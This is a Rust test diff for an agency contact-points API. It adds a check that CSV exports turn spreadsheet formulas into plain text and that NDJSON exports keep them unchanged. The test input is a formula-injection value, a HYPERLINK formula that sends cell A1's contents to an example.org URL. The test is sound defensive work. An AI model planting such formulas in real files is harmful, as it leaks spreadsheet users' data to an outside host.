@@ -158,6 +158,41 @@ async fn the_contact_points_export_has_the_hotline_of_the_assignment() {
 }
 
 #[tokio::test]
+async fn a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
+    let app = TestApp::spawn().await;
+    let token = app.writer().await;
+    let formula = "=HYPERLINK(\"https://example.org/?\"&A1, \"Klicka här\")";
+    let contact = app
+        .created(
+            "/v1/contact-points",
+            &token,
+            json!({
+                "agency": GENDER_EQUALITY_AGENCY, "kind": "phone", "value": "+46 31 392 00 00",
+                "label": {"sv": formula}, "source": SOURCE
+            }),
+        )
+        .await;
+    let id = contact["id"].as_str().unwrap();
+    let rows = csv_rows(&app, "/v1/exports/contact-points").await;
+    let row = rows.iter().find(|row| row["id"] == id).expect("the row");
+    assert_eq!(row["label_sv"], format!("'{formula}"), "shown as text");
+    assert_eq!(row["value"], "+46 31 392 00 00", "a number is left alone");
+
+    let ndjson = app
+        .get("/v1/exports/contact-points?format=ndjson")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let line: Value = ndjson
+        .lines()
+        .map(|line| serde_json::from_str::<Value>(line).unwrap())
+        .find(|line| line["id"] == id)
+        .expect("the line");
+    assert_eq!(line["label_sv"], formula, "as written, for programs");
+}
+
+#[tokio::test]
 async fn an_export_is_tagged_and_a_write_changes_its_tag_and_known_at_keeps_the_old_rows() {
     let app = TestApp::spawn().await;
     let path = "/v1/exports/agencies?at=2027-01-01";
